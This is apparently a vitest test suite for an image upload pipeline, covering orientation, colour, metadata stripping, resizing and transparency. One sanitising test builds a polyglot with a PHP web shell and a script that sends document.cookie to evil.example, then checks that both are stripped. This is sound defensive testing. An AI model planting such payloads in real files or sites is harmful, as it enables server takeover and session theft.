import sharp from 'sharp'
import exifr from 'exifr'
import { thumbHashToRGBA } from 'thumbhash'
import { beforeAll, describe, expect, it } from 'vitest'
import { createImagePipeline, type Output, type ProcessedImage } from '../../src/images/index.js'
import { expectClean, expectCode, fixture, meanDiff, solidPng } from './helpers.js'

const images = createImagePipeline()
/** Small originals keep the many-fixture tests fast; geometry and colour handling are the same. */
const small = createImagePipeline({ maxSide: 360 })

const names = (outputs: readonly Output[]) => outputs.map((o) => `${o.variant}.${o.ext}`)

describe('orientation: all 8 EXIF orientations come out upright', () => {
  let reference: Buffer
  beforeAll(async () => {
    reference = (await small.prepareOriginal(fixture('jpeg-exif-orientation-1-landscape.jpg'))).original.data
  })

  it.each([0, 2, 3, 4, 5, 6, 7, 8])(
    'orientation %i matches orientation 1 pixel for pixel (within JPEG noise)',
    async (n) => {
      const name =
        n === 0 ? 'jpeg-exif-orientation-0-invalid-landscape.jpg' : `jpeg-exif-orientation-${n}-landscape.jpg`
      const { original, facts } = await small.prepareOriginal(fixture(name))
      expect({ width: original.width, height: original.height }).toEqual({ width: 360, height: 240 })
      expect(facts).toMatchObject({ width: 1800, height: 1200 })
      expect(await meanDiff(original.data, reference)).toBeLessThan(4)
    },
  )

  it('the comparison is sensitive: a mirrored image is far from the reference', async () => {
    const mirrored = await sharp(reference).flop().toBuffer()
    expect(await meanDiff(mirrored, reference)).toBeGreaterThan(15)
  })
})

describe('colour: every output is 8-bit sRGB without a profile', () => {
  it.each([
    ['jpeg-icc-display-p3-iphone.jpg', 384, 512],
    ['jpeg-cmyk-ycck-no-icc.jpg', 510, 532],
    ['png-16bit-rgb.png', 149, 227],
    ['png-16bit-icc-rec709-linear.png', 64, 64],
    ['jpeg-grayscale.jpg', 128, 128],
    ['png-palette.png', 150, 103],
    ['jpeg-arithmetic-coding.jpg', 227, 149],
    ['avif-photo-icc-exif-xmp.avif', 403, 302],
  ])('%s', async (name, width, height) => {
    const result = await small.process(fixture(name))
    expect(result.original).toMatchObject({
      format: 'jpeg',
      ext: 'jpg',
      contentType: 'image/jpeg',
      width: Math.min(width, Math.round((360 * width) / Math.max(width, height))),
    })
    for (const output of result.outputs) await expectClean(output)
    // Three colour channels, also for the grey input.
    expect((await sharp(result.original.data).metadata()).channels).toBe(3)
  })

  it('converts Display P3 colours instead of reinterpreting them', async () => {
    const input = fixture('jpeg-icc-display-p3-iphone.jpg')
    const { original } = await images.prepareOriginal(input)
    const converted = await sharp(input).resize(32, 32, { fit: 'fill' }).raw().toBuffer() // sharp's own ICC → sRGB
    const ignored = await sharp(input, { ignoreIcc: true }).resize(32, 32, { fit: 'fill' }).raw().toBuffer()
    const ours = await sharp(original.data).resize(32, 32, { fit: 'fill' }).raw().toBuffer()
    const diff = (a: Buffer, b: Buffer) => a.reduce((s, v, i) => s + Math.abs(v - (b[i] as number)), 0) / a.length
    expect(diff(ours, converted)).toBeLessThan(diff(ours, ignored))
    expect(diff(ours, converted)).toBeLessThan(2)
  })
})

describe('sanitising: nothing of the input but its pixels survives', () => {
  it('strips GPS/EXIF/XMP from a phone JPEG with GPS (every output, read back with exifr)', async () => {
    const input = fixture('jpeg-cmyk-ycck-no-icc.jpg')
    const before = (await exifr.gps(input)) as { latitude?: number } | undefined
    expect(before?.latitude).toBeTypeOf('number') // the fixture does carry a position
    const result = await images.process(input)
    for (const output of result.outputs) {
      await expectClean(output)
      expect(await exifr.gps(output.data).catch(() => undefined)).toBeFalsy()
    }
  })

  it('drops trailing bytes, comments and an appended HTML + ZIP polyglot payload', async () => {
    const jpeg = fixture('jpeg-exif-orientation-1-landscape.jpg')
    const php = Buffer.from('<?php system($_GET[0]);?>')
    const comment = Buffer.from([0xff, 0xfe, 0x00, php.length + 2, ...php])
    const html = Buffer.from('<html><script>fetch("https://evil.example/"+document.cookie)</script></html>')
    const zip = Buffer.concat([
      Buffer.from('PK\x03\x04', 'latin1'),
      Buffer.alloc(26),
      Buffer.from('payload.txt'),
      Buffer.from('PK\x05\x06', 'latin1'),
      Buffer.alloc(18),
    ])
    const polyglot = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2), html, zip])
    const result = await small.process(polyglot)
    for (const output of result.outputs) {
      await expectClean(output)
      const text = output.data.toString('latin1')
      for (const needle of ['<html', '<script', 'PK\x03\x04', 'PK\x05\x06', 'payload.txt', '<?php', 'evil.example'])
        expect(text).not.toContain(needle)
      if (output.format === 'jpeg') expect(output.data.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]))
    }
  })

  it('1×1 JPEG and WebP with EXIF + XMP come out as clean 1×1 images', async () => {
    for (const name of ['jpeg-1x1-exif-xmp.jpg']) {
      const result = await images.process(fixture(name))
      for (const output of result.outputs) {
        expect(output).toMatchObject({ width: 1, height: 1 })
        await expectClean(output)
      }
    }
  })
})

describe('the 12 MP phone photo', () => {
  let result: ProcessedImage
  beforeAll(async () => {
    result = await images.process(fixture('jpeg-large-12mp-orientation-6.jpg'))
  }, 60_000)

  it('just works: upright, longest side capped at 4000, progressive JPEG', async () => {
    expect(result.facts).toMatchObject({ width: 3024, height: 4032, orientation: 6 })
    expect(result.original).toMatchObject({ variant: 'original', format: 'jpeg', width: 3000, height: 4000 })
    expect(await sharp(result.original.data).metadata()).toMatchObject({
      isProgressive: true,
      chromaSubsampling: '4:2:0',
    })
  })

  it('writes every variant in JPEG and WebP, fit inside, aspect kept', () => {
    expect(names(result.outputs)).toEqual([
      'original.jpg',
      'original.webp',
      'thumbnail.jpg',
      'thumbnail.webp',
      'medium.jpg',
      'medium.webp',
      'large.jpg',
      'large.webp',
    ])
    const dims = Object.fromEntries(result.outputs.map((o) => [`${o.variant}.${o.ext}`, `${o.width}x${o.height}`]))
    expect(dims).toEqual({
      'original.jpg': '3000x4000',
      'original.webp': '3000x4000',
      'thumbnail.jpg': '225x300',
      'thumbnail.webp': '225x300',
      'medium.jpg': '600x800',
      'medium.webp': '600x800',
      'large.jpg': '900x1200',
      'large.webp': '900x1200',
    })
  })

  it('strips the EXIF, XMP, extended XMP and ICC of the input from every output', async () => {
    for (const output of result.outputs) await expectClean(output)
  })

  it('has a ThumbHash placeholder and a dominant colour that match the picture', async () => {
    const decoded = thumbHashToRGBA(Buffer.from(result.placeholder.thumbhash, 'base64'))
    expect(decoded.w / decoded.h).toBeCloseTo(3 / 4, 1)
    expect(result.placeholder.dataUrl).toMatch(/^data:image\/png;base64,/)
    expect(result.dominantColor).toMatch(/^#[0-9a-f]{6}$/)
    expect(result.hasAlpha).toBe(false)
  })
})

describe('variants and output sizes, exactly at and one over', () => {
  it('the original is kept at maxSide and downscaled from maxSide + 1', async () => {
    const pipeline = createImagePipeline({ maxSide: 100, variants: [] })
    expect((await pipeline.prepareOriginal(await solidPng(100, 40))).original).toMatchObject({ width: 100, height: 40 })
    expect((await pipeline.prepareOriginal(await solidPng(101, 40))).original).toMatchObject({ width: 100, height: 40 })
    expect((await pipeline.prepareOriginal(await solidPng(40, 101))).original).toMatchObject({ width: 40, height: 100 })
  })

  it('a variant is never enlarged: input at its size stays, one over is reduced to it', async () => {
    const pipeline = createImagePipeline({ variants: [{ name: 'thumbnail', size: 50, square: false }] })
    const at = await pipeline.process(await solidPng(50, 30))
    expect(at.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual([
      '50x30',
      '50x30',
    ])
    const over = await pipeline.process(await solidPng(51, 30))
    expect(over.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual([
      '50x29',
      '50x29',
    ])
    const tiny = await pipeline.process(await solidPng(20, 10))
    expect(tiny.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual([
      '20x10',
      '20x10',
    ])
  })

  it('square variants are cover crops (attention), never enlarged', async () => {
    const pipeline = createImagePipeline({
      variants: [
        { name: 'thumbnail', size: 300, square: true },
        { name: 'large', size: 1200, square: false },
      ],
    })
    const result = await pipeline.process(fixture('jpeg-exif-orientation-3-landscape.jpg'))
    const dims = result.outputs.map((o) => `${o.variant}:${o.width}x${o.height}`)
    expect(dims).toContain('thumbnail:300x300')
    expect(dims).toContain('large:1200x800')
    const small1 = await pipeline.process(await solidPng(120, 80))
    expect(small1.outputs.filter((o) => o.variant === 'thumbnail').map((o) => `${o.width}x${o.height}`)).toEqual([
      '80x80',
      '80x80',
    ])
  })

  it('AVIF copies when enabled; no WebP when disabled', async () => {
    const avif = createImagePipeline({ avif: true, variants: [{ name: 'thumbnail', size: 64, square: false }] })
    const result = await avif.process(fixture('gif-static.gif'))
    expect(names(result.outputs)).toEqual([
      'original.jpg',
      'original.webp',
      'original.avif',
      'thumbnail.jpg',
      'thumbnail.webp',
      'thumbnail.avif',
    ])
    for (const output of result.outputs) await expectClean(output)
    const noWebp = createImagePipeline({ webp: false })
    expect(names((await noWebp.process(fixture('gif-static.gif'))).outputs)).toEqual([
      'original.jpg',
      'thumbnail.jpg',
      'medium.jpg',
      'large.jpg',
    ])
  })
})

describe('transparency and animation', () => {
  it.each(['png-rgba-alpha.png', 'webp-lossless-alpha.webp', 'webp-lossy-alpha.webp', 'png-interlaced-adam7-rgba.png'])(
    '%s keeps its alpha in PNG and WebP outputs',
    async (name) => {
      const result = await images.process(fixture(name))
      expect(result.hasAlpha).toBe(true)
      expect(result.original).toMatchObject({ format: 'png', ext: 'png', contentType: 'image/png' })
      expect(new Set(result.outputs.map((o) => o.format))).toEqual(new Set(['png', 'webp']))
      for (const output of result.outputs) {
        await expectClean(output)
        const { data, info } = await sharp(output.data).raw().toBuffer({ resolveWithObject: true })
        expect(info.channels).toBe(4)
        let transparent = 0
        for (let i = 3; i < data.length; i += 4) if ((data[i] as number) < 128) transparent++
        expect(transparent / (data.length / 4)).toBeGreaterThan(0.05)
      }
    },
  )

  it('drops an alpha channel that is fully opaque (stored as JPEG)', async () => {
    const opaque = await sharp({
      create: { width: 40, height: 30, channels: 4, background: { r: 10, g: 200, b: 30, alpha: 1 } },
    })
      .png()
      .toBuffer()
    const result = await images.process(opaque)
    expect(result.hasAlpha).toBe(false)
    expect(result.original.format).toBe('jpeg')
    expect(result.dominantColor).toMatch(/^#0[0-9a-f]c[0-9a-f]1[0-9a-f]$/)
  })

  it('a cut-out on transparency gets the colour of its subject, not of the empty background', async () => {
    const result = await images.prepareOriginal(fixture('png-rgba-alpha.png'))
    expect(result.dominantColor).not.toBe('#000000')
  })

  it.each(['gif-animated-loop-3.gif', 'webp-animated-loop-3.webp'])('%s becomes its first frame', async (name) => {
    const input = fixture(name)
    const result = await images.process(input)
    expect(result.facts.pages).toBe(10)
    expect(result.original).toMatchObject({ width: 370, height: 285 })
    const firstFrame = await sharp(input, { page: 0, pages: 1 }).png().toBuffer()
    const lastFrame = await sharp(input, { page: 9, pages: 1 }).png().toBuffer()
    const toFirst = await meanDiff(result.original.data, firstFrame)
    expect(toFirst).toBeLessThan(3)
    expect(toFirst).toBeLessThan(await meanDiff(result.original.data, lastFrame))
  })
})

describe('broken data found while decoding', () => {
  it('a JPEG cut inside its entropy-coded data (EOI kept) is INVALID_IMAGE, never stored grey-padded', async () => {
    const jpeg = fixture('jpeg-exif-orientation-1-landscape.jpg')
    const cut = Buffer.concat([jpeg.subarray(0, Math.floor(jpeg.length * 0.6)), Buffer.from([0xff, 0xd9])])
    const error = await expectCode(small.process(cut), 'INVALID_IMAGE')
    expect(error).toMatchObject({ status: 422 })
  })

  it('truncated PNG data is INVALID_IMAGE', async () => {
    const png = fixture('png-rgba-alpha.png')
    await expectCode(images.process(png.subarray(0, Math.floor(png.length / 2))), 'INVALID_IMAGE')
  })

  it('process refuses a PDF (documents are stored as validated)', async () => {
    await expectCode(
      images.process(fixture('docs/pdf-1-page-libreoffice.pdf'), { purpose: 'document' }),
      'UNSUPPORTED_TYPE',
    )
  })

  it('an aborted signal stops with ABORTED', async () => {
    await expectCode(images.process(fixture('gif-static.gif'), { signal: AbortSignal.abort() }), 'ABORTED')
  })
})

describe('purposes and the split upload path', () => {
  it('profile photos: original and thumbnail, each also in WebP (avatars are mostly shown as thumbnails)', async () => {
    const result = await images.process(fixture('jpeg-exif-orientation-1-landscape.jpg'), { purpose: 'profile_photo' })
    expect(names(result.outputs)).toEqual(['original.jpg', 'original.webp', 'thumbnail.jpg', 'thumbnail.webp'])
  })

  it('documents: JPEG at documentQuality with full chroma, a thumbnail, no WebP', async () => {
    const input = fixture('jpeg-exif-orientation-1-landscape.jpg')
    const doc = await images.process(input, { purpose: 'document' })
    expect(names(doc.outputs)).toEqual(['original.jpg', 'thumbnail.jpg'])
    expect(await sharp(doc.original.data).metadata()).toMatchObject({ chromaSubsampling: '4:4:4' })
    const photo = await images.process(input)
    expect(doc.original.size).toBeGreaterThan(photo.original.size * 1.3)
    for (const output of doc.outputs) await expectClean(output)
    // The upload path keeps full chroma from the sanitised original on.
    const sanitised = await images.prepareOriginal(input, { purpose: 'document' })
    expect(await sharp(sanitised.original.data).metadata()).toMatchObject({
      chromaSubsampling: '4:4:4',
      isProgressive: false,
    })
    const rendered = await images.renderVariants(sanitised.original.data, { purpose: 'document' })
    expect(names(rendered)).toEqual(['original.jpg', 'thumbnail.jpg'])
    expect(await sharp((rendered[0] as Output).data).metadata()).toMatchObject({
      chromaSubsampling: '4:4:4',
      isProgressive: true,
    })
  })

  it(
    'prepareOriginal stores a sanitised original; renderVariants turns it into the same set of outputs as process, ' +
      'deterministically',
    async () => {
      const input = fixture('jpeg-exif-orientation-8-landscape.jpg')
      const prepared = await images.prepareOriginal(input)
      const processed = await images.process(input)
      // The synchronous original: upright, same size, clean, a cheap sequential quality-100 JPEG.
      expect(prepared.original).toMatchObject({
        variant: 'original',
        format: 'jpeg',
        ext: 'jpg',
        width: processed.original.width,
        height: processed.original.height,
      })
      expect(await sharp(prepared.original.data).metadata()).toMatchObject({
        isProgressive: false,
        chromaSubsampling: '4:2:0',
      })
      await expectClean(prepared.original)
      expect(await meanDiff(prepared.original.data, processed.original.data)).toBeLessThan(2)

      const first = await images.renderVariants(prepared.original.data)
      const second = await images.renderVariants(prepared.original.data)
      expect(first.map((o) => o.data.equals((second[first.indexOf(o)] as Output).data))).toEqual(first.map(() => true))
      expect(first.map((o) => `${o.variant}.${o.ext}:${o.width}x${o.height}`)).toEqual(
        processed.outputs.map((o) => `${o.variant}.${o.ext}:${o.width}x${o.height}`),
      )
      // The optimised original from the sanitised one: progressive, 4:2:0, and within a few per cent
      // of the bytes of the one rendered from the upload itself.
      const optimised = first[0] as Output
      expect(await sharp(optimised.data).metadata()).toMatchObject({ isProgressive: true, chromaSubsampling: '4:2:0' })
      expect(optimised.size).toBeLessThan(prepared.original.size)
      expect(Math.abs(optimised.size / processed.original.size - 1)).toBeLessThan(0.05)
      // Rendered from the stored original, every output looks like the one rendered from the upload.
      for (const [i, output] of first.entries()) {
        await expectClean(output)
        expect(await meanDiff(output.data, (processed.outputs[i] as Output).data)).toBeLessThan(2)
      }
      // A reprocess starts from the optimised original and does not encode it once more.
      const again = await images.renderVariants(optimised.data, { reencodeOriginal: false })
      expect(again.map((o) => `${o.variant}.${o.ext}`)).toEqual(first.slice(1).map((o) => `${o.variant}.${o.ext}`))
    },
  )

  it(
    'uploadOriginal: optimised makes prepareOriginal return the optimised original itself (the one process() ' +
      'makes)',
    async () => {
      const input = fixture('jpeg-exif-orientation-8-landscape.jpg')
      const eager = createImagePipeline({ uploadOriginal: 'optimised' })
      const prepared = await eager.prepareOriginal(input)
      expect(prepared.stage).toBe('optimised')
      expect(prepared.original.data.equals((await eager.process(input)).original.data)).toBe(true)
      expect((await images.prepareOriginal(input)).stage).toBe('sanitised')
    },
  )

  it('a transparent image: a quickly compressed PNG at upload, the level-9 PNG from renderVariants', async () => {
    const input = fixture('png-rgba-alpha.png')
    const prepared = await images.prepareOriginal(input)
    expect(prepared.original).toMatchObject({ format: 'png', ext: 'png' })
    expect(prepared.hasAlpha).toBe(true)
    const [optimised] = await images.renderVariants(prepared.original.data)
    expect(optimised).toMatchObject({
      variant: 'original',
      format: 'png',
      width: prepared.original.width,
      height: prepared.original.height,
    })
    expect((optimised as Output).size).toBeLessThan(prepared.original.size)
    const pixels = async (data: Buffer) => sharp(data).ensureAlpha().raw().toBuffer()
    expect((await pixels((optimised as Output).data)).equals(await pixels(prepared.original.data))).toBe(true)
  })
})
